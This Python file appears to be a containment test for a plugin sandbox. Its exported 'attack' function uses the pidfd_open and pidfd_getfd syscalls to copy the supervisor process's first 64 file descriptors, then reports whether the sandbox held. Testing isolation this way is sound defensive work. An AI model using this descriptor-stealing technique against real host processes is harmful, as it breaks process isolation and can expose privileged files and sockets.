"""Steal the supervisor's descriptors: pidfd_open on its pid, then
pidfd_getfd for each of its first 64 descriptors."""

import ctypes
import errno
import os

import plugbox

SYS_pidfd_open = 434
SYS_pidfd_getfd = 438


@plugbox.export
def attack(ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    pid = ctx["supervisor_pid"]
    print(f"[about to call pidfd_open({pid})]", flush=True)
    pidfd = libc.syscall(ctypes.c_long(SYS_pidfd_open), ctypes.c_long(pid), ctypes.c_long(0))
    if pidfd < 0:
        return {"contained": True, "how": f"pidfd_open({pid}) -> {errno.errorcode.get(ctypes.get_errno())}"}
    stolen, last = [], None
    for target in range(64):
        fd = libc.syscall(ctypes.c_long(SYS_pidfd_getfd), ctypes.c_long(pidfd), ctypes.c_long(target),
                          ctypes.c_long(0))
        if fd >= 0:
            stolen.append(target)
            os.close(fd)
        else:
            last = errno.errorcode.get(ctypes.get_errno())
    os.close(pidfd)
    if stolen:
        return {"contained": False, "how": f"pidfd_getfd copied the supervisor's descriptors {stolen}"}
    return {"contained": True, "how": f"pidfd_open({pid}) worked, but every pidfd_getfd -> {last}"}
